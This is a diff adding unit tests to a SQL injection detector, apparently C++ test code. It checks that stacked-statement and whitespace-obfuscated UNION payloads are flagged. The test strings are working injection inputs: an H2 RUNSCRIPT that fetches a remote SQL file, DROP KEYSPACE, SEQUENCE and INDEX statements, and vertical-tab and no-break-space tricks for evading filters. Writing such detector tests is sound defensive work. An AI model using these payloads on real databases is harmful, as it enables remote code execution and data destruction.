@@ -392,5 +392,25 @@ TEST(SqliTest, MoreAssignmentsInAnUpdatesSetList) {
   EXPECT_EQ(testing::RuleOf(SqliDetector(), "-5 UNION DISTINCTROW SELECT 1,2"), "sqli.union");
 }
 
+// Statements H2 and Cassandra run after ';', and objects DROP removes.
+TEST(SqliTest, MoreStackedStatements) {
+  for (const std::string a :
+       {"1; RUNSCRIPT FROM 'http://203.0.113.9/x.sql'", "x'; DROP KEYSPACE app; --",
+        "1; drop sequence s1--", "1; DROP INDEX idx_users--"}) {
+    EXPECT_EQ(testing::RuleOf(SqliDetector(), a), "sqli.stacked") << a;
+  }
+  for (const std::string b : {"Tests done; runscript from the wiki next", "Drop keyspace? never"}) {
+    EXPECT_EQ(testing::RuleOf(SqliDetector(), b), "") << b;
+  }
+}
+
+// Vertical tabs, form feeds and no-break spaces separate SQL words.
+TEST(SqliTest, OtherWhitespaceBetweenKeywords) {
+  for (const std::string a : {"1'%0bunion%0bselect%0b1,2,3--+", "1'\vunion\fselect 1,2-- -",
+                              "1'\xC2\xA0union\xC2\xA0select\xC2\xA0" "1,2-- -"}) {
+    EXPECT_EQ(testing::RuleOf(SqliDetector(), a), "sqli.union") << a;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
